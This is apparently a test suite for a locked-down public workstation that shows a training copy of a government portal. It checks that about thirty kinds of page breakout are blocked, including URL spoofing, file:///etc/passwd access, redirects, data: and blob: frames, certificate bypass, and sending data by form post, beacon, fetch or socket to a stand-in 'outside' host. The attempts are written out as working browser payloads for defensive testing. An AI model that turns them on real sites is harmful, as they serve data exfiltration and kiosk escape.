/** Breakouts by address and navigation, B01–B29 of the catalogue: tried in the real window, judged from outside. */
import { execFileSync } from 'node:child_process';
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import process from 'node:process';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { GOSUSLUGI } from '../support/portal.ts';
import { workstationForTests } from '../support/running.ts';
import { until } from '../support/workstation.ts';

const running = workstationForTests({}, { sharesVisit: true });
const TRIALS = `${GOSUSLUGI}/trials`;
const OUTSIDE = 'https://outside.training.test';

let windows: readonly string[] = [];

beforeEach(async () => {
  const { station, portal } = running;
  await station.trainingControl({ action: 'reset' });
  await portal.settle(TRIALS);
  windows = station.windowsOnDisplay();
});

// Whatever was tried: nothing left the workstation and nothing appeared on it.
afterEach(async () => {
  const { station } = running;
  expect((await station.trainingState()).outsideHits).toBe(0);
  expect(station.tripped()).toEqual([]);
  expect(station.windowsOnDisplay()).toEqual(windows);
  const addresses = () =>
    station.app.evaluate(({ webContents }) => webContents.getAllWebContents().map((one) => one.getURL()));
  const OURS =
    /^((app|paper):\/\/(shell|painter)\/|sector-eds:\/\/[a-p]{32}\/|https?:\/\/[a-z.]+\.training\.test\/)/;
  // A page of ours that is just being made has no address yet.
  await expect.poll(async () => (await addresses()).filter((url) => !OURS.test(url))).toEqual([]);
  expect((await addresses()).filter((url) => url.includes('outside.'))).toEqual([]);
});

/** The page tries to leave by a script; the notice comes and the page stays. */
async function expectRefusal(script: string, reason: string | RegExp, stays = TRIALS): Promise<void> {
  const { portal } = running;
  await portal.begin(script);
  const notice = await portal.notice('blocked');
  expect(notice.reason).toMatch(reason);
  expect(await portal.url()).toBe(stays);
  await portal.dismiss();
  expect(await portal.ask('document.readyState')).toBe('complete');
  expect((await portal.browser()).tabs).toHaveLength(1);
}

const go = (url: string) => `location.href = ${JSON.stringify(url)}`;

describe('an address that is not in the list', () => {
  test.each([
    ['B01 a foreign https host', `${OUTSIDE}/news`, 'not-listed'],
    ['B14 user name before the host', 'https://gosuslugi.training.test@outside.training.test/', 'userinfo'],
    ['B14 a user name on a listed host', 'https://anna@gosuslugi.training.test/', 'userinfo'],
    ['B14 a listed name in the query', `${OUTSIDE}/?gosuslugi.training.test`, 'not-listed'],
    ['B14 a listed name as a label', 'https://gosuslugi.training.test.outside.training.test/', 'not-listed'],
    ['B16 a lookalike with Cyrillic letters', 'https://gоsuslugi.training.test/', /mixed-script|not-listed/],
    ['B16 a lookalike in Latin letters', 'https://gosuslugl.training.test/', 'not-listed'],
    ['B17 a numeric address', 'https://127.0.0.1/', 'ip-address'],
    ['B17 a numeric address in another notation', 'https://2130706433/', 'ip-address'],
    ['B17 an address of version 6', 'https://[::1]/', 'ip-address'],
    ['B17 localhost', 'https://localhost/', 'single-label-host'],
    ['B18 another port of a listed host', 'https://gosuslugi.training.test:8443/', 'port'],
    ['B19 a listed host without encryption', 'http://gosuslugi.training.test/', 'plain-http'],
    ['B20 a translator', 'https://gosuslugi-training-test.translate.goog/', 'not-listed'],
    [
      'B20 a copy',
      'https://webcache.googleusercontent.com/search?q=cache:gosuslugi.training.test',
      'not-listed',
    ],
    ['B12 a letter', 'mailto:help@training.test', 'scheme'],
    ['B12 a call', 'tel:+78000000000', 'scheme'],
    ['B12 the settings of Windows', 'ms-settings:network', 'scheme'],
    ['B12 a document for Word', 'ms-word:ofe|u|https://outside.training.test/x.docx', 'scheme'],
    ['B13 an app link', 'gosuslugi://open', 'scheme'],
    ['B13 an intent', 'intent://open#Intent;scheme=https;end', 'scheme'],
    ['B79 our own scheme', 'app://shell/index.html', 'scheme'],
  ])('%s is refused', async (_name, url, reason) => {
    await expectRefusal(go(url), reason);
  });

  test('B15 a trailing dot and capital letters do not make another site', async () => {
    const { portal } = running;
    await portal.begin(go('https://OUTSIDE.training.test./'));
    expect(await portal.notice('blocked')).toMatchObject({ reason: 'not-listed' });
    await portal.dismiss();
    await expectRefusal(go('https:\\\\outside.training.test\\'), 'not-listed');
    await expectRefusal(go('https://out\tside.training.test/'), 'not-listed');
    await expectRefusal(go('https://outside%2etraining.test/'), 'not-listed');
  });

  test('B01 an address that cannot be parsed goes nowhere', async () => {
    const { portal } = running;
    const thrown = await portal.ask(
      `(() => { try { location.href = 'https://[broken'; } catch (e) { return e.name; } })()`,
    );
    expect(thrown).toBe('SyntaxError');
    // A link may hold one all the same; Chromium then shows an empty page of its own.
    await portal.begin(`
      const link = document.createElement('a');
      link.href = 'https://[broken';
      document.body.append(link);
      link.click();
    `);
    expect(await portal.notice('blocked')).toMatchObject({ reason: 'unreadable' });
    await portal.dismiss();
    await portal.arrived(TRIALS);
    await expectStill();
  });

  test.each([
    'file:///etc/passwd',
    `filesystem:${GOSUSLUGI}/temporary/x`,
    'view-source:https://gosuslugi.training.test/',
    'chrome://settings/',
    'devtools://devtools/bundled/inspector.html',
    'chrome-extension://aapbdbdomjkkjkaonfhkkikfgjllcleb/x.html',
    'chrome-untrusted://terminal/',
  ])('B10 B11 %s does not open', async (url) => {
    const { portal } = running;
    await portal.begin(go(url));
    await portal.begin(`window.open(${JSON.stringify(url)})`);
    await expectStill();
  });

  test('B07 a script as an address runs in the page that made it and opens nothing', async () => {
    const { portal } = running;
    await portal.ask(`(() => {
      const link = document.createElement('a');
      link.href = 'javascript:void (document.title = "ran")';
      document.body.append(link);
      link.click();
    })()`);
    await until(
      async () => ((await portal.ask('document.title')) === 'ran' ? true : undefined),
      () => 'the script of the page itself did not run',
    );
    await portal.begin(`window.open('javascript:alert(1)')`);
    await expectStill();
  });
});

/** A barrier: everything the page asked for before has been judged, and the page is where it was. */
async function expectStill(): Promise<void> {
  const { portal } = running;
  // What Chromium shows an empty page for is covered by our notice, and the way back is open.
  if ((await portal.url()).startsWith('about:')) {
    await portal.notice('blocked');
    await portal.dismiss();
    await portal.arrived(TRIALS);
  }
  expect(await portal.ask(`fetch('/status/200').then((answer) => answer.status)`)).toBe(200);
  expect(await portal.url()).toBe(TRIALS);
  const { notice, tabs } = await portal.browser();
  expect(tabs).toHaveLength(1);
  if (notice) await portal.dismiss();
}

describe('a redirect', () => {
  test.each([
    ['B02 by the server', '/redirect'],
    ['B02 by the server in two steps', '/redirect/chain'],
    [
      'B03 through an open redirector of a listed host',
      `/redirect?to=${encodeURIComponent(`${OUTSIDE}/away`)}`,
    ],
    ['B03 to a file', '/redirect?to=file:///etc/passwd'],
    ['B03 to a program', '/redirect?to=training-app://open'],
    [
      'B19 to the same site without encryption',
      `/redirect?to=${encodeURIComponent('http://gosuslugi.training.test/')}`,
    ],
  ])('%s is cut', async (_name, path) => {
    const { station, portal } = running;
    await portal.begin(go(`${GOSUSLUGI}${path}`));
    await station.shell.locator('[data-testid="notice-blocked"], [data-testid="notice-offline"]').waitFor();
    await portal.dismiss();
    expect(await portal.url()).toMatch(/^https:\/\/gosuslugi\.training\.test\//);
    expect(await portal.ask('document.body.dataset.portal')).toBe('gosuslugi');
  });

  test.each([
    ['B02 by a script of the page', '/redirect/js'],
    ['B02 by a meta tag', '/redirect/meta'],
  ])('%s is cut', async (_name, path) => {
    await expectRefusal(go(`${GOSUSLUGI}${path}`), 'not-listed', `${GOSUSLUGI}${path}`);
  });

  test('B02 in a circle ends with a page that says so', async () => {
    const { portal } = running;
    await portal.begin(go(`${GOSUSLUGI}/redirect/loop`));
    expect(await portal.notice('offline')).toMatchObject({ code: '-310' });
  });
});

describe('a link that is pressed by hand', () => {
  test.each([
    ['B04 to a foreign site', 'footer-outside', {}, 'not-listed'],
    ['B05 with target=_blank', 'footer-outside-blank', {}, 'not-listed'],
    ['B05 with Shift', 'footer-outside', { holding: 'shift' }, 'not-listed'],
    ['B05 with Ctrl', 'footer-outside', { holding: 'ctrl' }, 'not-listed'],
    ['B05 with the middle button', 'footer-outside', { button: 2 }, 'not-listed'],
    ['B04 to a foreign site without encryption', 'footer-outside-http', {}, 'not-listed'],
    ['B12 of a letter', 'footer-mail', {}, 'scheme'],
    ['B12 of a call', 'footer-tel', {}, 'scheme'],
    ['B12 of a program', 'footer-scheme', {}, 'scheme'],
  ] as const)('%s is refused', async (_name, id, how, reason) => {
    const { portal, person } = running;
    await person.pressIn(portal, `[data-testid="${id}"]`, how);
    expect(await portal.notice('blocked')).toMatchObject({ reason });
    await portal.dismiss();
    await expectStill();
  });

  test('B39 the right button opens no menu', async () => {
    const { station, portal, person } = running;
    await person.pressIn(portal, '[data-testid="footer-outside"]', { button: 3 });
    await expectStill();
    expect(station.windowsOnDisplay()).toEqual(windows);
  });

  test('B40 the side buttons of the mouse do not leave the portal', async () => {
    const { portal, person } = running;
    await person.pressIn(portal, '[data-testid="footer-outside"]', { button: 9 });
    await person.pressIn(portal, '[data-testid="footer-outside"]', { button: 8 });
    expect(await portal.url()).toMatch(/^https:\/\/gosuslugi\.training\.test\//);
    await portal.arrived(`${GOSUSLUGI}/`);
    expect((await portal.browser()).tabs).toHaveLength(1);
  });
});

describe('a new window', () => {
  test('B06 that is empty is refused and hands the page no window to write into', async () => {
    const { portal } = running;
    for (const script of [
      `window.open('about:blank')`,
      'window.open()',
      `window.open('about:blank#x', 'named')`,
    ]) {
      await portal.touch();
      expect(await portal.ask(`${script} === null`)).toBe(true);
      expect(await portal.notice('blocked')).toMatchObject({ reason: 'inner-document' });
      await portal.dismiss();
    }
    await expectStill();
  });

  test('B06 the opener cannot steer the tab that was made for it', async () => {
    const { station, portal } = running;
    await portal.touch();
    expect(await portal.ask(`window.open('/status/200') === null`)).toBe(true);
    await station.at('tab-2').waitFor();
    await portal.arrived(`${GOSUSLUGI}/status/200`);
    expect(await portal.ask('window.opener === null')).toBe(true);
  });

  test.each([
    ['B08 of data:', `window.open('data:text/html,<h1>data</h1>')`],
    ['B09 of blob:', `window.open(URL.createObjectURL(new Blob(['<h1>blob</h1>'], { type: 'text/html' })))`],
    ['B12 of a program', `window.open('training-app://open')`],
    ['B01 of a foreign site', `window.open('${OUTSIDE}/')`],
  ])('%s is refused', async (_name, script) => {
    await expectRefusal(script, /scheme|inner-document|foreign-blob|not-listed/);
  });
});

describe('the page itself', () => {
  test.each([
    ['B08 data: in place of the page', go('data:text/html,<h1>data</h1>')],
    [
      'B08 data: by a link',
      `const a = document.createElement('a'); a.href = 'data:text/html,x'; document.body.append(a); a.click()`,
    ],
    [
      'B09 blob: in place of the page',
      `location.href = URL.createObjectURL(new Blob(['<h1>blob</h1>'], { type: 'text/html' }))`,
    ],
  ])('%s does not open', async (_name, script) => {
    const { portal } = running;
    await portal.begin(script);
    await expectStill();
  });

  test('B06 an empty page in place of the page is covered, and the way back leads to the portal', async () => {
    const { portal } = running;
    await portal.begin(go('about:blank'));
    expect(await portal.notice('blocked')).toMatchObject({ reason: 'inner-document' });
    await portal.dismiss();
    await portal.arrived(TRIALS);
    await expectStill();
  });

  test('B24 a part of the address that is changed without loading stays within the list', async () => {
    const { portal } = running;
    await portal.ask(`history.pushState({}, '', '/trials/pushed')`);
    expect(await portal.url()).toBe(`${TRIALS}/pushed`);
    const thrown = await portal.ask(
      `(() => { try { history.pushState({}, '', '${OUTSIDE}/'); } catch (e) { return e.name; } })()`,
    );
    expect(thrown).toBe('SecurityError');
  });

  test('B25 a form sent to a foreign site does not arrive', async () => {
    await expectRefusal(
      `const form = document.createElement('form');
       form.method = 'post'; form.action = '${OUTSIDE}/collect';
       form.innerHTML = '<input name="secret" value="zq">';
       document.body.append(form); form.submit()`,
      'not-listed',
    );
  });

  test.each([
    ['B26 a foreign frame', 'iframe', 'src', `${OUTSIDE}/frame`],
    ['B26 a foreign object', 'object', 'data', `${OUTSIDE}/frame`],
    ['B26 a foreign embed', 'embed', 'src', `${OUTSIDE}/frame`],
    [
      'B08 a frame of data:',
      'iframe',
      'src',
      'data:text/html,<script>parent.postMessage("ran","*")</script>',
    ],
    ['B10 a frame of a file', 'iframe', 'src', 'file:///etc/hostname'],
    ['B13 a frame of a program', 'iframe', 'src', 'training-app://open'],
    ['B02 a frame that redirects to a foreign site', 'iframe', 'src', '/redirect'],
  ])('%s shows nothing', async (_name, tag, attribute, url) => {
    const { portal } = running;
    const said = await portal.ask(`new Promise((resolve) => {
      addEventListener('message', ({ data }) => resolve(data));
      const part = document.createElement('${tag}');
      part.addEventListener('load', () => setTimeout(() => resolve('silent'), 300));
      part.addEventListener('error', () => resolve('silent'));
      setTimeout(() => resolve('silent'), 1500);
      part.setAttribute('${attribute}', ${JSON.stringify(url)});
      document.body.append(part);
    })`);
    expect(said).toBe('silent');
    await expectStill();
  });

  test('B09 a frame of the page’s own blob: is its own part, another site’s blob: is not', async () => {
    const { portal } = running;
    const own = await portal.ask(`new Promise((resolve) => {
      addEventListener('message', ({ data }) => resolve(data));
      const frame = document.createElement('iframe');
      frame.src = URL.createObjectURL(new Blob(['<script>parent.postMessage("ran", "*")</' + 'script>'], { type: 'text/html' }));
      setTimeout(() => resolve('silent'), 3000);
      document.body.append(frame);
    })`);
    expect(own).toBe('ran');
    await portal.begin(go('blob:https://outside.training.test/9115d58c-bcda-ff47-86e5-083e9a215304'));
    await expectStill();
  });

  test.each([
    ['fetch', `fetch('${OUTSIDE}/collect', { mode: 'no-cors' })`],
    [
      'an image',
      `new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = '${OUTSIDE}/pixel.gif'; })`,
    ],
    [
      'a script',
      `new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = no; s.src = '${OUTSIDE}/script.js'; document.head.append(s); })`,
    ],
    [
      'a style sheet',
      `new Promise((ok, no) => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.onload = ok; s.onerror = no; s.href = '${OUTSIDE}/x.css'; document.head.append(s); })`,
    ],
    [
      'a socket',
      `new Promise((ok, no) => { const s = new WebSocket('wss://outside.training.test/socket'); s.onopen = ok; s.onerror = no; })`,
    ],
    [
      'a stream of events',
      `new Promise((ok, no) => { const s = new EventSource('${OUTSIDE}/events'); s.onopen = ok; s.onerror = () => { s.close(); no(); }; })`,
    ],
    [
      'a worker of its own',
      `new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("${OUTSIDE}/collect").then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({ data }) => (data ? ok() : no()); })`,
    ],
  ])('B21 cannot reach a foreign site by %s', async (_name, script) => {
    expect(await running.portal.ask(`(${script}).then(() => 'reached', () => 'refused')`)).toBe('refused');
  });

  test('B21 cannot reach a foreign site by a beacon, a ping or a prefetch', async () => {
    await running.portal.ask(`(() => {
      navigator.sendBeacon('${OUTSIDE}/collect', 'zq');
      document.body.insertAdjacentHTML('beforeend',
        '<a id="ping" href="#x" ping="${OUTSIDE}/collect">x</a><link rel="prefetch" href="${OUTSIDE}/pixel.gif"><link rel="preload" as="image" href="${OUTSIDE}/pixel.gif"><video src="${OUTSIDE}/v.mp4"></video>');
      document.getElementById('ping').click();
      fetch('${OUTSIDE}/collect', { keepalive: true, method: 'POST', body: 'zq', mode: 'no-cors' }).catch(() => null);
    })()`);
    await running.portal.go(`${GOSUSLUGI}/trials?after`);
    await running.portal.ask(`fetch('/status/200').then(() => null)`);
  });

  test.each(['service-worker-fetch', 'service-worker-websocket'])(
    'B21 B22 cannot reach a foreign site by its worker: %s',
    async (probe) => {
      const { portal } = running;
      await portal.go(`${GOSUSLUGI}/probe`);
      await portal.ask('navigator.serviceWorker.ready.then(() => null)');
      const { outcome } = await portal.ask<{ outcome: string }>(`runProbe('${probe}')`);
      // The debugger of Playwright may hold a worker; what counts is that nothing arrived.
      expect(outcome).toMatch(/^(refused|silent)$/);
    },
  );

  test('B51 a download from a foreign site does not begin', async () => {
    const { station, portal } = running;
    await portal.begin(
      `const a = document.createElement('a'); a.href = '${OUTSIDE}/collect'; a.download = 'x.pdf'; document.body.append(a); a.click()`,
    );
    await expectStill();
    const [visit = ''] = readdirSync(join(station.folders.runtime, 'visits'));
    expect(readdirSync(join(station.folders.runtime, 'visits', visit))).toEqual([]);
  });

  test('B27 the password window of the browser is not shown, the page gets its answer', async () => {
    const { portal } = running;
    await portal.go(`${GOSUSLUGI}/basic`);
    expect(await portal.ask(`document.querySelector('[data-testid="basic-out"]') !== null`)).toBe(true);
    expect(await portal.ask(`fetch('/basic').then((answer) => answer.status)`)).toBe(401);
  });

  test('B28 a bad certificate cannot be clicked or typed through', async () => {
    const { station, portal, person } = running;
    await portal.begin(go('https://expired.gosuslugi.training.test/'));
    expect(await portal.notice('certificate')).toEqual({
      kind: 'certificate',
      host: 'expired.gosuslugi.training.test',
    });
    await person.type('thisisunsafe');
    expect(await portal.notice('certificate')).toBeDefined();
    expect(
      await portal
        .ask(`fetch('https://expired.gosuslugi.training.test/').then(() => 'in', () => 'out')`)
        .catch(() => 'out'),
    ).toBe('out');
    await station.at('notice-back').click();
    await portal.arrived(TRIALS);
  });
});

test('B29 a portal that asks for a certificate gets none, though there is one on the workstation', async () => {
  const { station, portal } = running;
  const url = 'https://cert.gosuslugi.training.test/certificate';
  const imported = await station.app.evaluate(
    ({ app }, certificate) =>
      new Promise((resolve) => app.importCertificate({ certificate, password: 'zq' }, resolve)),
    personalCertificate(station.folders.root),
  );
  expect(imported).toBe(0);
  // A page without our guard shows it at once: the snare works.
  const bare = await station.app.evaluate(async ({ WebContentsView }, address) => {
    const view = new WebContentsView({ webPreferences: { partition: 'bare' } });
    await view.webContents.loadURL(address);
    const text: unknown = await view.webContents.executeJavaScript('document.body.innerText');
    // Named by its view to the end: Electron ends a page whose view was collected as garbage.
    view.webContents.close();
    return text;
  }, url);
  expect(bare).toContain('zq owner');

  await portal.go(url);
  expect(await portal.ask('document.body.innerText')).toContain('не показан');
  expect(await portal.ask(`fetch('/certificate').then((answer) => answer.text())`)).not.toContain('zq owner');
});

/** A key and a certificate of somebody, as a file that a browser takes. */
function personalCertificate(folder: string): string {
  const at = (name: string) => join(folder, name);
  // A file of settings of our own: what the system's says, or that there is none, changes nothing.
  writeFileSync(at('openssl.cnf'), '[req]\ndistinguished_name = name\n[name]\n');
  const env = { ...process.env, OPENSSL_CONF: at('openssl.cnf') };
  const openssl = (...args: string[]) => execFileSync('openssl', args, { stdio: 'ignore', env });
  const pair = ['-keyout', at('owner.key'), '-out', at('owner.crt')];
  openssl('req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-subj', '/CN=zq owner', ...pair);
  const parts = ['-inkey', at('owner.key'), '-in', at('owner.crt'), '-out', at('owner.p12')];
  openssl('pkcs12', '-export', '-passout', 'pass:zq', ...parts);
  return at('owner.p12');
}

test('B23 the way back does not lead to the person before', async () => {
  const { station, portal } = running;
  await portal.logIn('zqbefore');
  await station.finishVisit();
  await station.leave();
  await station.beginVisit();
  await portal.open();
  expect((await portal.browser()).canGoBack).toBe(false);
  await portal.begin('history.back(); history.go(-3)');
  expect(await portal.ask(`fetch('/auth/state').then((answer) => answer.text())`)).toContain('signed-out');
  expect(await portal.url()).toBe(`${GOSUSLUGI}/`);
});
